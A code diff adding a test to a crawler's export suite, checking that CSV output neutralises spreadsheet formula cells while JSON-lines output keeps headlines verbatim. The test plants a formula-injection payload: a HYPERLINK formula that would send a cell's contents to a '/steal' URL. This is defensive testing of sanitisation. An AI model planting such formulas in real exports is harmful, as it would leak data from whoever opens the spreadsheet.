@@ -166,3 +166,21 @@ def test_exports_share_the_search_filters(site_server: SiteServer, tmp_path: Pat
     expected = [a for a in site.articles if "2025-03-10" <= a.published.isoformat() < "2025-03-12"]
     assert len(records) == len(expected) > 0
     assert {r["canonical_url"] for r in records} == {site.url(a.path) for a in expected}
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralized(
+    site_server: SiteServer, tmp_path: Path
+) -> None:
+    """A site's headline becomes a CSV cell an archivist opens in a spreadsheet: one starting
+    like a formula gets a leading apostrophe there; JSON lines keep it as written."""
+    db = tmp_path / "formula.db"
+    hostile = '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"open")'
+    site_server.site.articles[0].headline = hostile
+    crawl(site_server, db)
+    csv_out = run_cli("export", "csv", "--db", str(db))
+    assert csv_out.returncode == 0, csv_out.stderr
+    headlines = {r["headline"] for r in csv.DictReader(io.StringIO(csv_out.stdout))}
+    assert "'" + hostile in headlines
+    assert not any(h.startswith(("=", "+", "-", "@")) for h in headlines)
+    jsonl = run_cli("export", "jsonl", "--db", str(db))
+    assert hostile in {json.loads(line)["headline"] for line in jsonl.stdout.splitlines()}
